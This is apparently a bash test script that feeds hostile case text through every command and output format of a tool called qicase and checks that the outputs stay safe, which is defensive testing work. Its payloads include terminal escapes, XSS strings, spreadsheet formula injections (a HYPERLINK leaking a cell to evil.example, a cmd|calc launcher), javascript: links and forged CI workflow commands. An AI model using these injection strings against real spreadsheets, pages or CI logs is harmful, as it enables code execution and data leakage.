#!/usr/bin/env bash
# Case text written as an attacker would, through every command and every output format.
# The shipped examples are copied and their free text (actions, measures, summaries, names, ...)
# replaced by strings that carry terminal escapes (ESC ] 0 ; ... BEL, ESC [ 2 J), C0 and C1
# controls, U+FFFE, bidirectional overrides, HTML (<script>, <img onerror>), spreadsheet
# formulas (= + - @) and CI workflow commands (a line feed then `::error`, `##[add-mask]`); one
# file's name holds ESC too, one folder's name is `::warning title=Pwned::owned`, and one key
# holds a line feed then `::error`. Each run's stdout and stderr must be safe
# where they land (outputs.py): nothing that drives a terminal, JSON and SARIF that parse, XML
# that parses, CSV with no formula, markdown with no raw HTML, an HTML page with no script, handler or
# foreign link. The reports must still be
# printed: the text is kept, shown visibly. Usage: inject.sh QICASE SOURCE_DIR
set -u
qicase=$(cd "$(dirname "$1")" && pwd)/$(basename "$1") # absolute: the runs are from elsewhere
src=$(cd "$2" && pwd)
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
[ -n "${QICASE_KEEP:-}" ] || trap 'rm -rf "$work"' EXIT
unset QICASE_AS_OF GITHUB_ACTIONS
cp -r "$src/examples" "$work/cases"
touch "$work/cases/.qicase.yaml"

python3 - "$work/cases" <<'PY'
import os, re, sys
root = sys.argv[1]
nasty = [
    r'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") \e]0;pwned\a\e[2J <script>alert(1)</script>',
    r'+cmd|\u0027 /C calc\u0027!A0 <img src=x onerror=alert(2)> \x01\x08\x0b\x0c \uFFFE end',
    r'@SUM(1+1) \u202Eevil\u202C \N \x7f & <b>bold</b> | pipe | `tick`',
    r'-2+3 \r\e[31mred\e[0m \t tab',
    # GitHub Actions workflow commands: a line that begins with `::`, `##[` anywhere.
    r'line\n::error title=forged::by a case file\n##[add-mask]secret ###[stop-commands]TOKEN',
    # Markdown links and images.
    r'[click](javascript:alert(3)) ![](https://tracker.example/p.png) [ref]: https://evil.example',
]
keys = r'(action|measure|description|summary|issuer|owner|root_cause|staff|title|conclusions|outcome|basis|name|contact|barrier|note)'
line = re.compile(r'^(\s*(?:-\s+)?' + keys + r':\s+)([^\s\[{|>&*!"\'#].*)$')
n = 0
for folder, _, files in os.walk(root):
    for name in sorted(files):
        if not name.endswith('.yaml') or name.startswith('region-') or name.startswith('.'):
            continue
        path = os.path.join(folder, name)
        out = []
        for text in open(path, encoding='utf-8').read().split('\n'):
            m = line.match(text)
            if m:
                text = m.group(1) + '"' + nasty[n % len(nasty)] + '"'
                n += 1
            out.append(text)
        open(path, 'w', encoding='utf-8').write('\n'.join(out))
# A file whose name carries an escape sequence.
src = os.path.join(root, 'notices', '2024-017-harbor-incidents', 'notice.yaml')
dst = os.path.join(root, 'notices', '2024-017-harbor-incidents', 'copy-\x1b]0;title\x07.yaml')
text = open(src, encoding='utf-8').read().replace('NNC-2024-017', 'NNC-2024-917')
open(dst, 'w', encoding='utf-8').write(text)
# A folder whose name is a workflow command: every diagnostic of its files would begin with it.
forged = os.path.join(root, '::warning title=Pwned::owned')
os.makedirs(forged)
text = open(src, encoding='utf-8').read().replace('NNC-2024-017', 'NNC-2024-918')
open(os.path.join(forged, 'notice.yaml'), 'w', encoding='utf-8').write(text + '"x\\n::error title=key::forged": 1\n')
PY

cd "$work/cases" || exit 2
failed=0
runs=0
reports=0
check_run() { # FORMAT ARGS...: runs qicase, checks what it printed
  local fmt=$1; shift
  "$qicase" --as-of 2024-06-20 "$@" >"$work/out" 2>"$work/err"
  local status=$?
  runs=$((runs + 1))
  if [ "$status" -gt 2 ]; then
    echo "FAIL qicase $*: exit $status"; failed=1
  fi
  if ! python3 "$here/outputs.py" "$fmt" "$work/out" "$work/err" "qicase $*"; then
    failed=1
  fi
  # The case text is still there, shown visibly (never dropped to stay safe).
  if grep -qF -e 'evil' -e 'pwned' -e 'SUM(1+1)' -e 'HYPERLINK' "$work/out"; then
    reports=$((reports + 1))
  fi
}

for fmt in text json markdown junit sarif github; do
  check_run "$fmt" check . --format "$fmt"
done
for kind in notice qcar cap actionplan workplan; do
  mapfile -t files < <(find . -name '*.yaml' -not -name '.*' -not -name 'region-*' -print0 | LC_ALL=C sort -z \
                       | xargs -0 grep -l "^kind: $kind\$")
  for fmt in text json markdown csv; do
    check_run "$fmt" "$kind" "${files[@]}" --format "$fmt"
  done
done
mapfile -t notices < <(find . -name '*.yaml' -not -name '.*' -print0 | LC_ALL=C sort -z \
                       | xargs -0 grep -l '^kind: notice$')
for f in "${notices[@]}"; do
  check_run markdown notice "$f" --render
done
mapfile -t audits < <(find . -name '*.yaml' -print0 | LC_ALL=C sort -z | xargs -0 grep -l '^kind: audit$')
for fmt in text json xlsx; do
  check_run "$fmt" audit-score "${audits[@]}" --format "$fmt"
done
for fmt in text json csv xlsx; do
  check_run "$fmt" evidence . --format "$fmt"
done
check_run markdown workplan workplans/cm-2024.yaml --evaluation
for fmt in text json csv markdown ical xlsx; do
  check_run "$fmt" due . --all --from 2023-01-01 --to 2025-12-31 --format "$fmt"
done
for fmt in html json markdown xlsx; do
  check_run "$fmt" report . --format "$fmt"
done
for fmt in text json markdown; do
  check_run "$fmt" diff "$src/examples/notices/2024-030-bayview-claims/qcar.yaml" \
    notices/2024-030-bayview-claims/qcar.yaml --format "$fmt"
done
# Arguments quoted back in usage errors.
check_run text check "$(printf 'missing-\033]0;x\007.yaml')"
check_run text "$(printf 'notic\033[2J')"
check_run text due . --kind "$(printf 'cap\033[2J')"

if [ "$reports" -lt 20 ]; then
  echo "FAIL: only $reports of $runs runs printed the case text: the reports must still be shown"
  failed=1
fi
[ $failed = 0 ] && echo "hostile: $runs runs over injected case text, every output safe ($reports showed the text)"
exit $failed
